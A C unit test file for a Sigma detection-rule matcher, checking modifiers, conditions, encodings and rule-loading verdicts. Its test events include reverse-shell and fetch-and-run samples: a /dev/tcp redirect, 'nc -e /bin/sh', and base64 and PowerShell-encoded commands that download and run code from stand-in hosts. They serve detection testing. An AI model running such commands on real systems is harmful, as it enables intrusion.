// SPDX-License-Identifier: GPL-2.0-only
/*
 * The Sigma matcher: rules written here from the Sigma specification, one for
 * each modifier and condition form, each with events that must match and
 * events that must not; and the verdicts (usable, skipped, broken) the loader
 * gives rules whoflow cannot use.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "sigma.h"

struct seen {
	int n;
	enum sigma_verdict last;
	char why[256];
	int line;
};

static void on_report(void *ctx, const char *file, int line, const char *title,
		      enum sigma_verdict v, const char *why)
{
	struct seen *s = ctx;

	s->n++;
	s->last = v;
	s->line = line;
	snprintf(s->why, sizeof(s->why), "%s", why ? why : "");
}

static const char *HEAD = "title: t\nid: 11111111-2222-3333-4444-555555555555\n"
			  "logsource:\n  product: linux\n  category: process_creation\n";

/* A process_creation rule from its detection block. */
static struct sigma_set *proc_rule(const char *detection, struct seen *s)
{
	char text[4096];

	snprintf(text, sizeof(text), "%sdetection:\n%s", HEAD, detection);
	return sigma_set__load_text(text, "test.yml", on_report, s);
}

static void on_match(void *ctx, const struct sigma_rule_info *r, uint64_t fields)
{
	uint64_t *f = ctx;

	*f |= fields | 1ull << 63;
}

/* Whether the rule set matches a process with this image and command line. */
static bool proc_hits(const struct sigma_set *s, const char *image, const char *cmd)
{
	struct sigma_bag b = { 0 };
	uint64_t f = 0;

	sigma_bag__set(&b, SF_IMAGE, image);
	if (cmd)
		sigma_bag__set(&b, SF_COMMAND_LINE, cmd);
	sigma_bag__set(&b, SF_USER, "root");
	sigma_bag__set(&b, SF_PROCESS_ID, "4242");
	sigma_bag__set(&b, SF_PARENT_IMAGE, "/usr/bin/bash");
	sigma_set__eval(s, SIGMA_CAT_PROCESS_CREATION, &b, on_match, &f);
	sigma_bag__clear(&b);
	return f != 0;
}

#define USABLE(set, seen)                                                                  \
	do {                                                                               \
		assert_non_null(set);                                                      \
		if ((seen).last != SIGMA_USABLE)                                           \
			fail_msg("rule not usable: %s (line %d)", (seen).why, (seen).line); \
	} while (0)

static bool off_by_id(void *ctx, const struct sigma_rule_info *r)
{
	return r->id && !strcmp(r->id, ctx);
}

/* A disabled rule stays in the set (listed, counted) and is never evaluated. */
static void test_disabled_rules_do_not_match(void **state)
{
	struct seen seen = { 0 };
	struct sigma_set *set = proc_rule("  sel:\n    Image|endswith: /curl\n  condition: sel\n", &seen);

	USABLE(set, seen);
	assert_true(proc_hits(set, "/usr/bin/curl", NULL));
	assert_int_equal(sigma_set__disable(set, off_by_id, "another-id"), 0);
	assert_true(proc_hits(set, "/usr/bin/curl", NULL));
	assert_int_equal(sigma_set__disable(set, off_by_id, "11111111-2222-3333-4444-555555555555"), 1);
	assert_false(proc_hits(set, "/usr/bin/curl", NULL));
	assert_int_equal(sigma_set__counts(set).usable, 1);
	/* The list is the whole truth each time: a rule off before is on again when left out. */
	assert_int_equal(sigma_set__disable(set, off_by_id, "another-id"), 0);
	assert_true(proc_hits(set, "/usr/bin/curl", NULL));
	sigma_set__free(set);
}

static void test_maps_lists_and_wildcards(void **state)
{
	struct seen s = { 0 };
	struct sigma_set *set = proc_rule("  sel:\n    Image: '/usr/bin/cu?l'\n"
					  "    CommandLine:\n      - '*http://*'\n      - '* -O *'\n"
					  "  condition: sel\n",
					  &s);

	USABLE(set, s);
	assert_true(proc_hits(set, "/usr/bin/curl", "curl http://x"));
	assert_true(proc_hits(set, "/USR/BIN/CURL", "curl -O file")); /* case-insensitive */
	assert_false(proc_hits(set, "/usr/bin/curl", "curl ftp://x"));
	assert_false(proc_hits(set, "/usr/bin/wget", "wget http://x"));
	assert_false(proc_hits(set, "/usr/bin/cuurl", "curl http://x")); /* ? is one character */
	sigma_set__free(set);
	/* A list of maps: either. Escaped wildcards are plain. */
	set = proc_rule("  sel:\n    - Image: '/tmp/*'\n    - CommandLine: 'a\\*b'\n  condition: sel\n",
			&s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/tmp/x", "y"));
	assert_true(proc_hits(set, "/bin/x", "a*b"));
	assert_false(proc_hits(set, "/bin/x", "axxb"));
	sigma_set__free(set);
}

static void test_string_modifiers(void **state)
{
	struct seen s = { 0 };
	struct sigma_set *set;

	set = proc_rule("  a:\n    CommandLine|contains|all:\n      - ' -e '\n      - '/dev/tcp'\n"
			"  b:\n    Image|endswith: '/nc'\n    CommandLine|startswith: 'nc '\n"
			"  condition: a or b\n",
			&s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/bin/bash", "bash -e /dev/tcp/1.2.3.4/80"));
	assert_false(proc_hits(set, "/bin/bash", "bash -e /dev/null"));
	assert_true(proc_hits(set, "/usr/bin/nc", "nc -l 80"));
	assert_false(proc_hits(set, "/usr/bin/ncat", "nc -l 80"));
	sigma_set__free(set);
	/* cased: case matters. */
	set = proc_rule("  a:\n    CommandLine|contains|cased: 'SeCreT'\n  condition: a\n", &s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/x", "echo SeCreT"));
	assert_false(proc_hits(set, "/x", "echo secret"));
	sigma_set__free(set);
	/* windash: -x, /x and the three Unicode dashes. */
	set = proc_rule("  a:\n    CommandLine|windash|contains: ' -enc '\n  condition: a\n", &s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/x", "pwsh -enc AAA"));
	assert_true(proc_hits(set, "/x", "pwsh /enc AAA"));
	assert_true(proc_hits(set, "/x", "pwsh \xe2\x80\x93" "enc AAA"));
	assert_false(proc_hits(set, "/x", "pwsh +enc AAA"));
	sigma_set__free(set);
}

static void test_encodings(void **state)
{
	struct seen s = { 0 };
	struct sigma_set *set;
	static const char *cmd = "echo ZWNobyBoaTsgY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d";

	/* base64 of the whole value. */
	set = proc_rule("  a:\n    CommandLine|base64|contains: 'curl'\n  condition: a\n", &s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/x", "echo Y3VybA== | base64 -d"));
	assert_false(proc_hits(set, "/x", cmd));
	sigma_set__free(set);
	/* base64offset: the value anywhere in an encoded text (each of the three offsets). */
	set = proc_rule("  a:\n    CommandLine|base64offset|contains: 'curl http'\n  condition: a\n",
			&s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/x", cmd));
	assert_true(proc_hits(set, "/x", "YWVjaG8gaGk7IGN1cmwgaHR0cDovL2V2aWwuZXhhbXBsZS94IHwgc2g="));
	assert_true(proc_hits(set, "/x", "YWJlY2hvIGhpOyBjdXJsIGh0dHA6Ly9ldmlsLmV4YW1wbGUveCB8IHNo"));
	assert_false(proc_hits(set, "/x", "ZWNobyBoaTsgd2dldCBodHRwOi8vZXZpbC5leGFtcGxlL3g="));
	sigma_set__free(set);
	/* UTF-16LE (wide), then base64offset: PowerShell's -EncodedCommand. */
	set = proc_rule("  a:\n    CommandLine|wide|base64offset|contains: 'DownloadString'\n"
			"  condition: a\n",
			&s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/usr/bin/pwsh",
			      "pwsh -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbAB"
			      "pAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAv"
			      "AC8AeAAiACkA"));
	assert_false(proc_hits(set, "/usr/bin/pwsh", "pwsh -enc SQBFAFgAIAAoAE4AZQB3AC0A"));
	sigma_set__free(set);
	/* utf16be and utf16 (BOM) with base64: the encodings of 'ab'. */
	set = proc_rule("  a:\n    CommandLine|utf16be|base64: 'ab'\n"
			"  b:\n    CommandLine|utf16|base64: 'ab'\n  condition: a or b\n",
			&s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/x", "AGEAYg==")); /* 00 61 00 62 */
	assert_true(proc_hits(set, "/x", "//5hAGIA")); /* ff fe 61 00 62 00 */
	assert_false(proc_hits(set, "/x", "YQBiAA==")); /* little-endian without a mark */
	sigma_set__free(set);
}

static void test_regex_cidr_numbers(void **state)
{
	struct seen s = { 0 };
	struct sigma_set *set;
	struct sigma_bag b = { 0 };
	uint64_t f = 0;

	set = proc_rule("  a:\n    CommandLine|re: 'nc\\s+-e\\s'\n  condition: a\n", &s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/x", "exec nc   -e /bin/sh")); /* unanchored */
	assert_false(proc_hits(set, "/x", "exec NC -e /bin/sh")); /* case-sensitive by default */
	sigma_set__free(set);
	set = proc_rule("  a:\n    CommandLine|re|i: '^NC -E'\n"
			"  b:\n    CommandLine|re|m: '^second$'\n"
			"  c:\n    CommandLine|re|s: 'x.y'\n  condition: 1 of them\n",
			&s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/x", "nc -e /bin/sh"));
	assert_true(proc_hits(set, "/x", "first\nsecond\nthird"));
	assert_true(proc_hits(set, "/x", "x\ny"));
	assert_false(proc_hits(set, "/x", "first second"));
	sigma_set__free(set);
	/* cidr and numbers on a network rule. */
	set = sigma_set__load_text("title: n\nlogsource:\n  category: network_connection\n"
				   "  product: linux\ndetection:\n  a:\n"
				   "    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 'fd00::/8'\n"
				   "    DestinationPort|gte: 1024\n    DestinationPort|lt: 2000\n"
				   "  condition: a\n",
				   "n.yml", on_report, &s);
	USABLE(set, s);
	sigma_bag__set(&b, SF_DESTINATION_IP, "10.1.2.3");
	sigma_bag__set(&b, SF_DESTINATION_PORT, "1500");
	assert_int_equal(sigma_set__eval(set, SIGMA_CAT_NETWORK_CONNECTION, &b, on_match, &f), 1);
	assert_true(f & 1ull << SF_DESTINATION_IP);
	sigma_bag__set(&b, SF_DESTINATION_IP, "fd00::1");
	assert_int_equal(sigma_set__eval(set, SIGMA_CAT_NETWORK_CONNECTION, &b, on_match, &f), 1);
	sigma_bag__set(&b, SF_DESTINATION_IP, "11.1.2.3");
	assert_int_equal(sigma_set__eval(set, SIGMA_CAT_NETWORK_CONNECTION, &b, on_match, &f), 0);
	sigma_bag__set(&b, SF_DESTINATION_IP, "10.1.2.3");
	sigma_bag__set(&b, SF_DESTINATION_PORT, "2000");
	assert_int_equal(sigma_set__eval(set, SIGMA_CAT_NETWORK_CONNECTION, &b, on_match, &f), 0);
	/* lte, gt and neq. */
	sigma_set__free(set);
	set = sigma_set__load_text("title: n2\nlogsource:\n  category: network_connection\n"
				   "detection:\n  a:\n    DestinationPort|lte: 80\n"
				   "    SourcePort|gt: 1023\n    Protocol|neq: udp\n  condition: a\n",
				   "n2.yml", on_report, &s);
	USABLE(set, s);
	sigma_bag__set(&b, SF_DESTINATION_PORT, "80");
	sigma_bag__set(&b, SF_SOURCE_PORT, "1024");
	sigma_bag__set(&b, SF_PROTOCOL, "tcp");
	assert_int_equal(sigma_set__eval(set, SIGMA_CAT_NETWORK_CONNECTION, &b, on_match, &f), 1);
	sigma_bag__set(&b, SF_PROTOCOL, "udp");
	assert_int_equal(sigma_set__eval(set, SIGMA_CAT_NETWORK_CONNECTION, &b, on_match, &f), 0);
	sigma_bag__set(&b, SF_PROTOCOL, "tcp");
	sigma_bag__set(&b, SF_SOURCE_PORT, "1023");
	assert_int_equal(sigma_set__eval(set, SIGMA_CAT_NETWORK_CONNECTION, &b, on_match, &f), 0);
	sigma_bag__set(&b, SF_SOURCE_PORT, "1024");
	sigma_bag__set(&b, SF_DESTINATION_PORT, "81");
	assert_int_equal(sigma_set__eval(set, SIGMA_CAT_NETWORK_CONNECTION, &b, on_match, &f), 0);
	/* Rules of other categories are not evaluated on this one. */
	sigma_bag__set(&b, SF_DESTINATION_PORT, "1500");
	assert_int_equal(sigma_set__eval(set, SIGMA_CAT_PROCESS_CREATION, &b, on_match, &f), 0);
	sigma_bag__clear(&b);
	sigma_set__free(set);
}

static void test_null_exists_fieldref_keywords(void **state)
{
	struct seen s = { 0 };
	struct sigma_set *set;

	/* null: absent or empty; exists: present. */
	set = proc_rule("  a:\n    CommandLine: null\n  condition: a\n", &s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/x", NULL));
	assert_true(proc_hits(set, "/x", ""));
	assert_false(proc_hits(set, "/x", "y"));
	sigma_set__free(set);
	set = proc_rule("  a:\n    CommandLine|exists: true\n  condition: a\n", &s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/x", "y"));
	assert_false(proc_hits(set, "/x", NULL));
	sigma_set__free(set);
	set = proc_rule("  a:\n    CommandLine|exists: false\n  condition: a\n", &s);
	USABLE(set, s);
	assert_false(proc_hits(set, "/x", "y"));
	assert_true(proc_hits(set, "/x", NULL));
	sigma_set__free(set);
	/* fieldref: the image is its parent's. */
	set = proc_rule("  a:\n    Image|fieldref: ParentImage\n  condition: a\n", &s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/usr/bin/bash", "bash"));
	assert_false(proc_hits(set, "/usr/bin/ls", "ls"));
	sigma_set__free(set);
	/* Keywords: anywhere in the event; |all: each of them. */
	set = proc_rule("  kw:\n    - 'mimikatz'\n    - 'lsadump'\n  condition: kw\n", &s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/x", "run lsadump::sam"));
	assert_true(proc_hits(set, "/opt/MIMIKATZ", "y"));
	assert_false(proc_hits(set, "/x", "y"));
	sigma_set__free(set);
	set = proc_rule("  kw:\n    '|all':\n      - 'oab'\n      - ' -externalurl '\n  condition: kw\n",
			&s);
	USABLE(set, s);
	assert_true(proc_hits(set, "/x", "Set-OabVirtualDirectory -ExternalUrl x"));
	assert_false(proc_hits(set, "/x", "Set-OabVirtualDirectory"));
	sigma_set__free(set);
}

static void test_conditions(void **state)
{
	static const char *det = "  selection_a:\n    Image|endswith: '/curl'\n"
				 "  selection_b:\n    CommandLine|contains: 'http'\n"
				 "  filter:\n    User: 'root'\n"
				 "  _hidden:\n    Image: '/never'\n";
	static const struct {
		const char *cond;
		bool curl_http, curl_ftp, wget_http;
	} cases[] = {
		{ "selection_a and selection_b", true, false, false },
		{ "selection_a or selection_b", true, true, true },
		{ "selection_a and not filter", false, false, false },
		{ "not selection_a", false, false, true },
		{ "(selection_a or selection_b) and not selection_b", false, true, false },
		{ "1 of selection_*", true, true, true },
		{ "all of selection_*", true, false, false },
		{ "1 of them", true, true, true },
		{ "all of them", true, false, false }, /* _hidden is not one of them */
		{ "selection_a and not 1 of filt*", false, false, false },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct seen s = { 0 };
		char d[1024];
		struct sigma_set *set;

		snprintf(d, sizeof(d), "%s  condition: %s\n", det, cases[i].cond);
		set = proc_rule(d, &s);
		USABLE(set, s);
		print_message("%s\n", cases[i].cond);
		assert_int_equal(proc_hits(set, "/usr/bin/curl", "curl http://x"), cases[i].curl_http);
		assert_int_equal(proc_hits(set, "/usr/bin/curl", "curl ftp://x"), cases[i].curl_ftp);
		assert_int_equal(proc_hits(set, "/usr/bin/wget", "wget http://x"), cases[i].wget_http);
		sigma_set__free(set);
	}
}

/* The fields of the selections that matched, not those of a filter that did not. */
static void test_matched_fields(void **state)
{
	struct seen s = { 0 };
	struct sigma_set *set = proc_rule("  sel:\n    Image|endswith: '/curl'\n"
					  "  filter:\n    CommandLine|contains: 'localhost'\n"
					  "  condition: sel and not filter\n",
					  &s);
	struct sigma_bag b = { 0 };
	uint64_t f = 0;

	USABLE(set, s);
	sigma_bag__set(&b, SF_IMAGE, "/usr/bin/curl");
	sigma_bag__set(&b, SF_COMMAND_LINE, "curl http://x");
	assert_int_equal(sigma_set__eval(set, SIGMA_CAT_PROCESS_CREATION, &b, on_match, &f), 1);
	assert_true(f & 1ull << SF_IMAGE);
	assert_false(f & 1ull << SF_COMMAND_LINE);
	sigma_bag__clear(&b);
	sigma_set__free(set);
}

static enum sigma_verdict verdict(const char *text, struct seen *s)
{
	struct sigma_set *set = sigma_set__load_text(text, "v.yml", on_report, s);

	assert_non_null(set);
	sigma_set__free(set);
	return s->last;
}

static void test_verdicts(void **state)
{
	static const struct {
		const char *text;
		enum sigma_verdict v;
		const char *why;
	} cases[] = {
		{ "title: w\nlogsource:\n  product: windows\n  category: process_creation\n"
		  "detection:\n  a:\n    Image: x\n  condition: a\n",
		  SIGMA_SKIPPED, "logsource product windows: not this host (linux)" },
		{ "title: s\nlogsource:\n  product: linux\n  service: auditd\n"
		  "detection:\n  a:\n    type: x\n  condition: a\n",
		  SIGMA_SKIPPED, "logsource service auditd: whoflow reads no such log" },
		{ "title: f\nlogsource:\n  product: linux\n  category: file_access\n"
		  "detection:\n  a:\n    TargetFilename: x\n  condition: a\n",
		  SIGMA_SKIPPED, "logsource category file_access: whoflow has no such events" },
		{ "title: f\nlogsource:\n  product: linux\n  category: file_event\n"
		  "detection:\n  a:\n    TargetFilename|startswith: /etc/cron\n  condition: a\n",
		  SIGMA_USABLE, NULL },
		{ "title: g\nlogsource:\n  category: file_delete\n"
		  "detection:\n  a:\n    SourceFilename: x\n  condition: a\n",
		  SIGMA_SKIPPED, "field SourceFilename: not in the events of this rule's category" },
		{ "title: c\nlogsource:\n  category: process_creation\n"
		  "detection:\n  a:\n    Image: x\n  condition: a | count() > 5\n",
		  SIGMA_SKIPPED,
		  "condition: aggregations (| count() ...) need several events; not supported" },
		{ "title: e\nlogsource:\n  category: process_creation\n"
		  "detection:\n  a:\n    Image|expand: '%Servers%'\n  condition: a\n",
		  SIGMA_SKIPPED, "the |expand modifier is not supported (placeholders need definitions)" },
		{ "title: u\nlogsource:\n  category: process_creation\n"
		  "detection:\n  a:\n    Company: x\n  condition: a\n",
		  SIGMA_SKIPPED, "field Company: not in whoflow's events" },
		{ "title: q\nlogsource:\n  category: process_creation\n"
		  "detection:\n  a:\n    QueryName: x\n  condition: a\n",
		  SIGMA_SKIPPED, "field QueryName: not in the events of this rule's category" },
		{ "title: r\nlogsource:\n  category: process_creation\n"
		  "detection:\n  a:\n    Image|re: '(unclosed'\n  condition: a\n",
		  SIGMA_BROKEN, "bad regular expression at offset 9: missing closing parenthesis" },
		{ "title: m\nlogsource:\n  category: process_creation\n"
		  "detection:\n  a:\n    Image: x\n  condition: a and b\n",
		  SIGMA_BROKEN, "condition: \"b\" is not a search identifier of the detection" },
		{ "title: n\nlogsource:\n  category: process_creation\n"
		  "detection:\n  a:\n    Image: x\n",
		  SIGMA_BROKEN, "detection without a condition" },
		{ "title: y\nlogsource:\n  category: process_creation\n"
		  "detection:\n  a:\n    Image: [x\n  condition: a\n",
		  SIGMA_BROKEN, NULL },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct seen s = { 0 };

		print_message("case %zu\n", i);
		assert_int_equal(verdict(cases[i].text, &s), cases[i].v);
		if (cases[i].why)
			assert_string_equal(s.why, cases[i].why);
	}
}

/*
 * The file categories: a rule reads the category it names and no other (a
 * FILE record's bags, one per category it qualifies for, are made by
 * sigma_bag.c); file_rename reads the name before as SourceFilename.
 */
static void test_file_categories(void **state)
{
	static const char *rules =
		"title: cron\nlogsource:\n  product: linux\n  category: file_event\n"
		"detection:\n  a:\n    TargetFilename|startswith: '/etc/cron.d/'\n"
		"  condition: a\n---\n"
		"title: moved\nlogsource:\n  category: file_rename\n"
		"detection:\n  a:\n    SourceFilename|endswith: '.ssh/authorized_keys'\n"
		"  condition: a\n";
	struct seen s = { 0 };
	struct sigma_set *set = sigma_set__load_text(rules, "f.yml", on_report, &s);
	struct sigma_bag b = { 0 };
	uint64_t f = 0;

	USABLE(set, s);
	assert_true(sigma_set__rules_for(set, SIGMA_CAT_FILE_EVENT));
	assert_true(sigma_set__rules_for(set, SIGMA_CAT_FILE_RENAME));
	assert_false(sigma_set__rules_for(set, SIGMA_CAT_FILE_DELETE));
	sigma_bag__set(&b, SF_IMAGE, "/usr/bin/dash");
	sigma_bag__set(&b, SF_TARGET_FILENAME, "/etc/cron.d/evil");
	sigma_set__eval(set, SIGMA_CAT_FILE_EVENT, &b, on_match, &f);
	assert_true(f != 0);
	f = 0;
	sigma_set__eval(set, SIGMA_CAT_FILE_DELETE, &b, on_match, &f); /* another category */
	assert_true(f == 0);
	sigma_bag__set(&b, SF_TARGET_FILENAME, "/etc/crontab.bak");
	sigma_set__eval(set, SIGMA_CAT_FILE_EVENT, &b, on_match, &f);
	assert_true(f == 0);
	sigma_bag__set(&b, SF_TARGET_FILENAME, "/tmp/x");
	sigma_bag__set(&b, SF_SOURCE_FILENAME, "/root/.ssh/authorized_keys");
	sigma_set__eval(set, SIGMA_CAT_FILE_RENAME, &b, on_match, &f);
	assert_true(f != 0);
	sigma_bag__clear(&b);
	sigma_set__free(set);
}

/* A YAML error names its line; the documents before it still load. */
static void test_broken_yaml_names_the_line(void **state)
{
	struct seen s = { 0 };
	struct sigma_set *set = sigma_set__load_text(
		"title: ok\nlogsource:\n  category: process_creation\ndetection:\n  a:\n    Image: x\n"
		"  condition: a\n---\ntitle: bad\ndetection:\n  a: [unclosed\n",
		"two.yml", on_report, &s);
	struct sigma_counts c = sigma_set__counts(set);

	assert_int_equal(c.usable, 1);
	assert_int_equal(c.broken, 1);
	assert_int_equal(s.last, SIGMA_BROKEN);
	assert_int_equal(s.line, 12);
	assert_memory_equal(s.why, "YAML: ", 6);
	sigma_set__free(set);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_maps_lists_and_wildcards),
		cmocka_unit_test(test_string_modifiers),
		cmocka_unit_test(test_encodings),
		cmocka_unit_test(test_regex_cidr_numbers),
		cmocka_unit_test(test_null_exists_fieldref_keywords),
		cmocka_unit_test(test_conditions),
		cmocka_unit_test(test_matched_fields),
		cmocka_unit_test(test_verdicts),
		cmocka_unit_test(test_file_categories),
		cmocka_unit_test(test_disabled_rules_do_not_match),
		cmocka_unit_test(test_broken_yaml_names_the_line),
	};

	return cmocka_run_group_tests_name("sigma", tests, NULL, NULL);
}
